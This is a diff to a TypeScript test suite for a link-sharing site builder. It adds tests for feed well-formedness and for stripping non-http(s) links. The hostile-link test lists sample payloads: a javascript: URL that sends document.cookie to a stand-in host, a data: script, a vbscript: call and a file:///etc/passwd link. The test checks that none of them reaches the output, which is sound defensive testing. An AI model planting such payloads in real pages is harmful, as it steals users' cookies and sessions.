@@ -14,6 +14,9 @@ const settings = {
   pageSize: 2,
 };
 
+/** The key the raft pick's record fixed when it was first published (slug and item id prefix). */
+const RAFT_KEY = `raft-${itemRow({ url: 'https://raft.github.io/' }).id.slice(0, 8)}`;
+
 function picks(): PickedLink[] {
   const day = 86_400_000;
   return [
@@ -23,7 +26,7 @@ function picks(): PickedLink[] {
       tags: ['consensus', 'c++'],
       note: 'The <b>clearest</b> consensus paper.',
       publications: {
-        site: { target: 'site', key: 'raft-k1', by: 'm1', at: 10 * day, state: 'published' },
+        site: { target: 'site', key: RAFT_KEY, by: 'm1', at: 10 * day, state: 'published' },
       },
     }),
     itemRow({
@@ -40,7 +43,8 @@ function picks(): PickedLink[] {
       addedAt: 8 * day,
     }),
     itemRow({ url: 'https://a.example/old', title: 'Old', addedAt: 1 * day }),
-  ].map((row) => pickOf(row));
+    // The first blurb was typed in the Publish dialog, markup and all; it goes out as text.
+  ].map((row, i) => (i === 0 ? pickOf(row, row.note) : pickOf(row)));
 }
 
 describe('buildSite (Curio site)', () => {
@@ -97,9 +101,51 @@ describe('buildSite (Curio site)', () => {
     expect(json.feed_url).toBe('https://links.example.org/ds/feed.json');
   });
 
+  it('keeps feeds well-formed whatever a title holds', () => {
+    const odd = pickOf(
+      itemRow({
+        url: 'https://a.example/odd',
+        title: 'a ]]> b <c> \u0001 & "d"',
+      }),
+      'x\u0002y',
+    );
+    const built = buildSite([odd], settings);
+    const atom = parseAtomFeed(built.get('feed.xml') ?? '');
+    expect(atom.entries?.[0]?.title?.value).toBe('a ]]> b <c>  & "d"');
+    expect(atom.entries?.[0]?.summary?.value).toBe('xy');
+    expect(built.get('feed.xml')).toContain('xml:lang="en"');
+    expect(buildSite([odd], settings).get('feed.xml')).toBe(built.get('feed.xml'));
+  });
+
   it('uses template overrides from the site repository', () => {
     const custom = buildSite(picks(), settings, { list: '{{#picks}}<p>{{title}}</p>{{/picks}}' });
     expect(custom.get('index.html')).toContain('<p>Raft &amp; friends</p>');
+  });
+});
+
+describe('buildSite and links that are not http(s)', () => {
+  const hostile = [
+    "javascript:fetch('https://evil.example/?c='+document.cookie)//https://example.com/",
+    'data:text/html,<script>alert(1)</script>',
+    'vbscript:msgbox(1)',
+    'file:///etc/passwd',
+  ];
+  // A co-maintainer can write any url into the shared document; the builder checks on its own.
+  const picksWith = hostile.map((url, i) =>
+    pickOf({ ...itemRow({ url: `https://evil.example/${i}`, title: `Evil ${i}` }), url }, 'Click'),
+  );
+
+  it('never builds one into a page, a feed or a content file, whoever picked it', () => {
+    const good = picks()[1]!;
+    for (const format of ['curio-site', 'content-files'] as const) {
+      const files = buildSite([...picksWith, good], { ...settings, format });
+      for (const [path, text] of files) {
+        for (const scheme of ['javascript:', 'data:', 'vbscript:', 'file:'])
+          expect(`${path}: ${text}`).not.toContain(scheme);
+        expect(text).not.toContain('Evil');
+      }
+      expect([...files.values()].join()).toContain(good.item.url);
+    }
   });
 });
 
@@ -110,7 +156,7 @@ describe('buildSite (content files)', () => {
       format: 'content-files',
       contentDir: 'content/links',
     });
-    const raft = files.get('content/links/raft-k1.md');
+    const raft = files.get(`content/links/${RAFT_KEY}.md`);
     expect(raft).toBe(
       [
         '---',
